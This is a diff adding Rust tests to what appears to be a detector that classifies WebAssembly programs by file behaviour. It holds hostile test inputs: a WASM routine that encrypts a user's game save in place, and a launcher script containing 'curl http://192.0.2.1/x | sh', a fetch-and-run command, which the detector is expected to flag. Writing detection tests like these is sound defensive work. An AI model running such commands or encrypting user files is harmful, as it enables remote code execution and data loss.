@@ -164,6 +164,48 @@ fn logs_and_caches_come_and_go() {
 }
 
 #[test]
+fn the_state_of_a_game_is_no_victim() {
+    let state: String =
+        (0..600_u32).map(|at| char::from(((at * at * 7 + at * 13) % 127) as u8 + 1)).collect();
+    let of = |change: &str| {
+        let body = format!(
+            "(local.set $n (call $open (i32.const 1600) $LEN (i32.const 0)))
+             (drop (call $read (local.get $n))) {change}
+             (drop (call $fd_seek (local.get $n) (i64.const 0) (i32.const 0) (i32.const 24)))
+             (call $write (local.get $n) (i32.const 4096) (i32.const 600))"
+        );
+        with_file("home/user/Games/save.dat", &state, &body).verdict
+    };
+    let numbers = "(loop $next
+        (i32.store8 offset=4096 (local.get $i)
+          (i32.add (i32.load8_u offset=4096 (local.get $i)) (i32.mul (local.get $i) (i32.const 3))))
+        (br_if $next (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 4))) (i32.const 600))))";
+    let kept = of(numbers);
+    assert_eq!(kept.class, Class::Undecided, "{:?}", kept.reasons);
+    let sealed = of("(call $crypt (i32.const 600) (i32.const 255))");
+    assert!(sealed.class >= Class::Suspicious, "{:?}", sealed.reasons);
+}
+
+/// What installers put beside programs.
+#[test]
+fn a_launcher_accuses_nobody() {
+    let writing = |script: &str| {
+        files(&format!(
+            r#"(data (i32.const 1600) "home/user/app") (data (i32.const 1700) "{script}")
+               (func (export "_start")
+                 (call $write (call $open (i32.const 1600) (i32.const 13) (i32.const 9)) (i32.const 1700)
+                   (i32.const {})))"#,
+            script.replace("\\n", "\n").len()
+        ))
+    };
+    assert_eq!(class(&writing("#!/bin/sh\\nexec node app.js")), Class::Undecided);
+    at_least(
+        Class::PotentiallyUnwanted,
+        &[("fetched", writing("#!/bin/sh\\nexec curl http://192.0.2.1/x | sh"))],
+    );
+}
+
+#[test]
 fn a_disk_that_is_full_was_filled() {
     let filling = r#"(module
         (import "wasi_snapshot_preview1" "path_open"
